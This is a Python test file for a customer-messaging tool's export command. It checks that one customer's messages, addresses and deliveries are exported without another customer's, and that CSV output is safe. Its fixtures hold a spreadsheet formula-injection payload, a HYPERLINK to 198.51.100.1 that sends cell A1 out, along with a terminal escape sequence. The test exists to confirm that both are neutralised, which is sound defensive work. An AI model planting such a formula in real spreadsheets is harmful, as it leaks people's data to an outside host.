"""What is known of a customer is written out whole; what others wrote runs in no spreadsheet."""

import csv
from collections.abc import AsyncIterator
from pathlib import Path

import orjson
import pytest

from relevo.messages import Author, Unusable
from relevo.store.embedded import DatabaseUrls
from relevo.store.exporting import SECTIONS
from tests.commands import BAD, CANNOT, WELL, configured
from tests.crm_rows import put_aside, row
from tests.store_rig import PHONE, Desk, desk, phone, said

pytestmark = [pytest.mark.postgres, pytest.mark.process]

FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"Su reserva")'
SPELLED = "+503 7000-0001"


@pytest.fixture
async def store(database: DatabaseUrls) -> AsyncIterator[Desk]:
    async with desk(database) as opened:
        yield opened


async def test_everything_of_a_customer_is_exported_and_nothing_of_another(
    store: Desk, tmp_path: Path
) -> None:
    await store.deliver(said("Hola", "w1", "w2"), said(FORMULA, after_seconds=1))
    answer = said("Buenas\n\x1b[2J", author=Author.AGENT, after_seconds=2)
    await store.deliver(answer, Unusable("odd"), body=f"raw of {PHONE}".encode())
    await store.deliver(said("otro", addresses=phone(2)), Unusable("odd"), body=b"raw of another")
    old = [row(f"antes de {n}", to_number=phone(n)[0].value) for n in (1, 2)]
    await put_aside(store.pools, old)
    relevo = configured(store.urls, tmp_path)

    told = await relevo("export", SPELLED)
    assert (told.code, told.errors) == (WELL, "")
    [customer] = orjson.loads(told.out)
    assert tuple(customer) == SECTIONS
    assert [m["body"] for m in customer["messages"]] == ["Hola", FORMULA, answer.body]
    assert customer["messages"][0]["keys"] == ["w1", "w2"]
    assert [a["value"] for a in customer["addresses"]] == [PHONE]
    assert [d["body"] for d in customer["deliveries"]] == [f"raw of {PHONE}"]
    assert [staged["body"] for staged in customer["staged"]] == ["antes de 1"]
    assert "\x1b" not in told.out
    assert "otro" not in told.out

    path = tmp_path / "thread.csv"
    written = await relevo("export", SPELLED, "--format", "csv", "--output", str(path))
    assert (written.code, written.out, written.errors) == (WELL, "", "")
    assert path.stat().st_mode & 0o777 == 0o600
    rows = list(csv.DictReader(path.read_text().splitlines(keepends=True)))
    assert [row["body"] for row in rows] == ["Hola", f"'{FORMULA}", "Buenas\n\\x1b[2J"]
    assert [row["author"] for row in rows] == ["customer", "customer", "agent"]

    again = await relevo("export", SPELLED, "--output", str(path))
    assert (again.code, "cannot be written: File exists" in again.line) == (CANNOT, True)
    nobody = await relevo("export", "+503 7000-0099")
    assert (nobody.code, nobody.out) == (BAD, "Nobody is known under this address.\n")
